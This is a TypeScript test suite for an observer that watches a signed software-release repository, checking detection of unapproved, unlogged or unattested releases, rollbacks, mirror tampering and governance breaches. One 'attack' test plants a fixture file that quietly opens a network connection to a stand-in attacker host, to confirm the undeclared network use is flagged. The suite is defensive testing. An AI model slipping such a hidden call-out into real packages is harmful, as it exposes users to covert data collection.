// SPDX-License-Identifier: Apache-2.0
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import type { RunningDuty } from "@countersign/daemon/child";
import { request } from "@countersign/daemon/client";
import { windowClient } from "@countersign/release/window-client";
import { headBytes, headPath, nextChannel } from "@countersign/repository/next-channel";
import { nextHead } from "@countersign/repository/next-head";
import { nextSnapshot } from "@countersign/repository/next-snapshot";
import { nextTimestamp } from "@countersign/repository/next-timestamp";
import { documentBytes, signDocument } from "@countersign/repository/sign-document";
import { targetStorePath } from "@countersign/repository/target-path";
import type { TargetsDocument } from "@countersign/trust/anchor/targets";
import type { Timestamp } from "@countersign/trust/anchor/timestamp";
import { sha256 } from "@countersign/trust/digest";
import { accept } from "@countersign/trust/refusal";
import type { Entry, Head } from "@countersign/trust/release/head";
import type { Statement } from "@countersign/trust/release/statement";
import type { Denial } from "@countersign/trust/revocation/list";
import type { SnapshotDocument } from "@countersign/trust/tuf/snapshot";
import { brakeConfig, governConfig, observeConfig, revokeConfig } from "@countersign/world/duty-configs";
import { layGround } from "@countersign/world/ground";
import { openWindow } from "@countersign/world/open-window";
import { appPlan } from "@countersign/world/plans/app";
import { enter, sampleStatement } from "@countersign/world/sample-release";
import { parseConfig } from "./config.ts";
import type { Finding } from "./finding.ts";
import type { Status } from "./observer.ts";

const directory = mkdtempSync(join(tmpdir(), "observe-"));
const ground = await layGround(directory, {
  ...appPlan("hello", "stable", ["ann", "ben", "cem", "dia"]),
  soakSeconds: 1,
  urgent: { soakSeconds: 1, extraApprovals: 1 },
  brake: { bits: 12, askers: [{ holder: "brake-dia", owner: "dia" }] },
  pace: { batchMilliseconds: 10, pollMilliseconds: 50, heartbeatMilliseconds: 300, timestampSeconds: 3600 },
});
after(async () => {
  await ground[Symbol.asyncDispose]();
  rmSync(directory, { recursive: true });
});
const { project, store, ledger, key } = ground;

// Whoever owns the signers and publish: they publish what they like.
const place = { product: "hello", platform: "linux-x64", channel: "stable" };
const expires = "2090-01-01T00:00:00Z";
let head: Head | undefined;
let channel: TargetsDocument | undefined;
let snapshot: SnapshotDocument | undefined;
let timestamp: Timestamp | undefined;

async function log(type: "targets" | "policy" | "channel", bytes: Uint8Array): Promise<void> {
  const logged = await ledger.append({ type, digest: sha256(bytes) });
  assert.ok(logged.ok, JSON.stringify(logged));
}

async function publish(entry: Entry<Statement>, { logged = true } = {}): Promise<void> {
  head = nextHead(head, place, entry);
  channel = nextChannel(channel, new Map([[headPath(place), head]]), expires);
  const signers = await Promise.all(["sign-ann", "sign-ben"].map(key));
  const file = documentBytes(await signDocument(channel, signers));
  if (logged) await log("channel", file);
  await store.write(targetStorePath(headPath(place), sha256(headBytes(head))), headBytes(head));
  await store.write(`metadata/${channel.version}.stable.json`, file);
  const targets = (await store.read("metadata/1.targets.json")) ?? new Uint8Array();
  const files = new Map([
    ["targets.json", { version: 1, bytes: targets }],
    ["stable.json", { version: channel.version, bytes: file }],
  ]);
  snapshot = nextSnapshot(snapshot, files, expires);
  const listing = documentBytes(await signDocument(snapshot, [await key("publish-snapshot")]));
  await store.write(`metadata/${snapshot.version}.snapshot.json`, listing);
  const note = await ledger.checkpoint();
  assert.ok(note.ok);
  timestamp = nextTimestamp(timestamp, { version: snapshot.version, bytes: listing }, note.value, expires);
  await store.write("metadata/timestamp.json", documentBytes(await signDocument(timestamp, [await key("publish-timestamp")])));
}

const revoke = await ground.start("revoke", "revoke-ann", await revokeConfig(project, "revoke-ann", 0, ground.ledgerUrl));
let observe: RunningDuty = await start();
async function start(): Promise<RunningDuty> {
  const brake = brakeConfig(project, 0, "http://127.0.0.1:9", { "revoke-ann": revoke.url });
  const patient = { silenceSeconds: 60 }; // on a busy machine witnesses are late, and that is not looked for here
  return ground.start("observe", "observe", { ...observeConfig(project, 0, ground.url), ...patient, ...brake });
}

async function ask<T>(path: string): Promise<T> {
  const answer = await request(observe.url + path, {}, (json) => accept(json as T));
  assert.ok(answer.ok, JSON.stringify(answer));
  return answer.value;
}
const findings = async () => {
  const { findings: found } = await ask<{ findings: readonly (Finding & { readonly suppressed: null })[] }>("/findings");
  return found.map(({ suppressed, ...finding }) => finding);
};
const isUnusual = ({ severity }: Finding) => severity !== "Informational";
const found = async () => (await findings()).filter(isUnusual).map(({ detector }) => detector);

async function until(holds: () => Promise<boolean>): Promise<void> {
  for (let wait = 0; wait < 2400; wait++, await sleep(25)) if (await holds()) return;
  assert.fail(`it did not come about: ${JSON.stringify(await findings())}`);
}

/** After a whole look that began after now. */
async function look(): Promise<Status> {
  const before = Date.now();
  const looks = new Set<number>();
  for (;;) {
    const status = await ask<Status>("/status");
    if (status.looked > before) looks.add(status.looked);
    if (looks.size > 1) return status;
    await sleep(10);
  }
}

const good = async (sequence: number) => enter(ground, await sampleStatement(ground, { sequence }));

test("a configuration that says what nobody reads is refused", () => {
  const refused = parseConfig({ ...observeConfig(project, 0, ground.url), key: {} });
  assert.equal(refused.ok ? "ok" : refused.refusal.found, "key");
});

test("before anything is published there is nothing to find, and an observer that saw nothing is not healthy", async () => {
  const status = await look();
  assert.equal(status.healthy, false);
  assert.deepEqual(await found(), []);
});

test("an honest release is followed to the end of the ledger, and nothing is found", async () => {
  for (const [type, path] of [
    ["targets", "metadata/1.targets.json"],
    ["policy", (await store.list("targets/"))[0] ?? ""],
  ] as const)
    await log(type, (await store.read(path)) ?? new Uint8Array());
  await publish(await good(1));
  const status = await look();
  assert.equal(status.healthy, true);
  assert.equal(status.size, 5); // targets, policy, provenance, release, channel
  assert.ok(Math.abs(status.time - Date.now() / 1000) < 60);
  assert.deepEqual(await found(), []);
});

test("signers who publish what nobody approved are seen", async () => {
  await publish(await enter(ground, await sampleStatement(ground, { sequence: 2 }), { approvers: [] }));
  await until(async () => (await found()).includes("unapproved-entry"));
  const [finding] = (await findings()).filter(isUnusual);
  assert.deepEqual([finding?.severity, finding?.evidence["digest"]], ["Critical", head?.releases.at(-1)?.digest]);
});

test("a release whose entry is not in the ledger is seen", async () => {
  const real = await good(3);
  await publish({ ...real, proof: (head?.releases[0] ?? real).proof });
  await until(async () => (await found()).includes("unlogged-entry"));
});

test("bytes without provenance are seen", async () => {
  const statement = await sampleStatement(ground, { sequence: 4 });
  await publish(await enter(ground, { ...statement, provenance: [sha256(Buffer.from("nothing"))] }));
  await until(async () => (await found()).includes("unattested-release"));
});

test("a channel file that was signed in secret is seen", async () => {
  await publish(await good(5), { logged: false });
  await until(async () => (await found()).includes("unlogged-file"));
});

test("everything was found once, however often it is looked at", async () => {
  await look();
  assert.deepEqual(await found(), ["unapproved-entry", "unlogged-entry", "unattested-release", "unlogged-file"]);
});

test("killed and started again, it goes on from its cursor and repeats nothing", async () => {
  const { size } = await look();
  const before = (await findings()).filter(isUnusual);
  await observe.stop("SIGKILL");
  const logged = await good(6); // while nobody looks
  observe = await start();
  assert.equal((await ask<Status>("/status")).size, size);
  await publish(logged);
  assert.equal((await look()).size, size + 3); // provenance, release, channel
  assert.deepEqual((await findings()).filter(isUnusual), before);
  const lines = readFileSync(join(project.directory, "duties/observe/findings.jsonl"), "utf8").trimEnd().split("\n");
  assert.deepEqual(lines.map((line): Finding => JSON.parse(line)).filter(isUnusual), before);
});

test("attack: a release that starts to talk and does not say so is named, with the line, its bits and how rare that is", async () => {
  const files = {
    "bin/run": "#!/bin/sh\necho hello 4\n",
    "lib/start.js": 'import { connect } from "node:net";\nconnect(443, "collect.evil.dev");\n',
  };
  await publish(await enter(ground, await sampleStatement(ground, { sequence: 7 }, files)));
  const drift = async () => (await findings()).find(({ detector, evidence }) => detector === "package-drift" && evidence["sequence"] === 7);
  await until(async () => (await drift()) !== undefined);
  const { severity, evidence } = (await drift()) as Finding;
  assert.equal(severity, "Medium");
  const { bits, sightings } = evidence as { bits: number; sightings: { signal: string; benign: number; evidence: unknown[] }[] };
  assert.ok(bits >= 12 && sightings.every(({ benign }) => benign > 0 && benign < 1));
  const undeclared = sightings.find(({ signal }) => signal === "privilege-undeclared");
  assert.deepEqual(undeclared?.evidence, [{ path: "lib/start.js", line: 1, text: "network: network" }]);
});

test("a release above the threshold of the policy is held, once, by a denial that says whose it is and is in the ledger", async () => {
  const denials = async () => {
    const answer = await request(`${revoke.url}/denials`, {}, (json) => accept(json as { denials: readonly Denial[]; logged: number }));
    assert.ok(answer.ok);
    return answer.value;
  };
  await until(async () => (await denials()).logged > 0 && (await found()).includes("braked"));
  await look();
  const [hold, ...others] = (await denials()).denials;
  assert.deepEqual([hold?.kind, hold?.name, hold?.brake, others], ["release", head?.releases.at(-1)?.digest, "brake-dia", []]);
  const { evidence } = (await findings()).find(({ detector }) => detector === "braked") as Finding;
  assert.equal(evidence["until"], hold?.until);
  const { time } = await look();
  assert.ok(Math.abs((hold?.until ?? 0) - time - 72 * 3600) < 60);
});

test("a replay of an older repository, properly signed, is seen", async () => {
  const newest = (await store.read("metadata/timestamp.json")) ?? new Uint8Array();
  await publish(await good(8));
  await look();
  await store.write("metadata/timestamp.json", newest);
  await until(async () => (await found()).filter((name) => name === "repository-rolled-back").length === 3);
  await publish(await good(8));
  assert.equal((await look()).healthy, true);
});

test("a repository that does not verify is seen with its refusal, and again when it breaks again after it was whole", async () => {
  const whole = (await store.read("metadata/timestamp.json")) ?? new Uint8Array();
  await store.write("metadata/timestamp.json", Buffer.from("{}"));
  await until(async () => (await found()).includes("repository-refused"));
  assert.equal((await look()).healthy, false);
  await store.write("metadata/timestamp.json", whole);
  assert.equal((await look()).healthy, true);
  await publish(await good(9));
  await look();
  await store.write("metadata/timestamp.json", Buffer.from("{}"));
  await until(async () => (await found()).filter((name) => name === "repository-refused").length === 2);
  await publish(await good(10));
});

test("what was approved in public, and never published, is mentioned once its soak is over; what was published is not", async () => {
  const withheld = await good(11);
  await until(async () => {
    const names = (await findings()).filter(({ detector }) => detector === "unpublished-entry");
    return names.some(({ evidence }) => JSON.stringify(evidence).includes(withheld.digest));
  });
  const mentioned = (await findings()).filter(({ detector }) => detector === "unpublished-entry");
  assert.deepEqual(
    mentioned.map(({ severity }) => severity),
    ["Informational"],
  );
});

test("an observer that may ask govern knows what was intended: a release in its window is quiet, one more and one after it are not", async () => {
  const govern = await ground.start("govern", "govern", governConfig(project, 0, ground.ledgerUrl, {}));
  const frozen = (await store.read("metadata/timestamp.json")) ?? new Uint8Array();
  const mirrors = [await mirror(new Map([["metadata/timestamp.json", frozen]])), await mirror(swapped)];
  observe = await ground.start("observe", "watch", { ...observeConfig(project, 0, ground.url, "watch"), govern: govern.url, mirrors });
  const flagged = async (detector: string): Promise<readonly unknown[]> =>
    (await findings()).filter((finding) => finding.detector === detector).map(({ evidence }) => evidence["sequence"]);
  const people = { proposer: "ann", approvers: ["ben"] };
  const release = async (sequence: number) => enter(ground, await sampleStatement(ground, { sequence }), people);
  await until(async () => (await flagged("release-without-intent")).includes(10));
  assert.ok((await flagged("identity-without-grant")).includes(10), "proposed with the key of an identity that nobody granted anything");

  const { size } = await look();
  const window = await openWindow(project, { govern: govern.url }, { releases: 1, reason: "12" });
  assert.ok(window.ok, JSON.stringify(window));
  await until(async () => (await look()).size >= size + 2); // its request and its opening
  await publish(await release(12));
  await publish(await enter(ground, await sampleStatement(ground, { sequence: 13, privileges: ["network"] }), people));
  await until(async () => (await flagged("release-over-count")).includes(13));
  const closed = await look();
  const act = { act: "window.close", subject: window.value.id, body: {}, now: Date.now(), nonce: randomBytes(16) } as const;
  assert.ok((await windowClient(govern.url).act(await key("cem"), act)).ok);
  await until(async () => (await look()).size > closed.size);
  await publish(await release(14));
  await until(async () => (await flagged("release-without-intent")).includes(14));
  assert.deepEqual([await flagged("release-over-count"), (await flagged("release-without-intent")).includes(12)], [[13], false]);
  assert.ok((await flagged("build-without-grant")).includes(12), "its builder is certified, and was granted no build of that commit");
  assert.ok(!(await flagged("identity-without-grant")).includes(12), "a person proposes in their own name");
  assert.deepEqual(await flagged("privileges-grown"), [13]);
  await until(async () => (await flagged("signed-without-grant")).includes(12)); // in its window, by keys that asked nobody

  const [stale, differs] = mirrors;
  const shown = (detector: string, of: string | undefined) => async (): Promise<boolean> =>
    (await findings()).some((finding) => finding.detector === detector && finding.evidence["mirror"] === of);
  await until(shown("mirror-stale", stale));
  const last = await release(15);
  swapped.set(`artifacts/${last.body.artifacts[0]?.sha256}`, Buffer.from("other"));
  await publish(last);
  await until(shown("mirror-differs", differs));
});

/** Files that the second mirror serves in place of the store's. */
const swapped = new Map<string, Uint8Array>();

/** Another server of the same store, with some files of its own. */
async function mirror(own: ReadonlyMap<string, Uint8Array>): Promise<string> {
  const server = createServer(async (asked, response) => {
    const path = asked.url?.slice(1) ?? "";
    const bytes = own.get(path) ?? (await store.read(path));
    response.writeHead(bytes === undefined ? 404 : 200).end(bytes);
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  after(() => server.close());
  const address = server.address();
  return `http://127.0.0.1:${typeof address === "object" ? address?.port : ""}`;
}
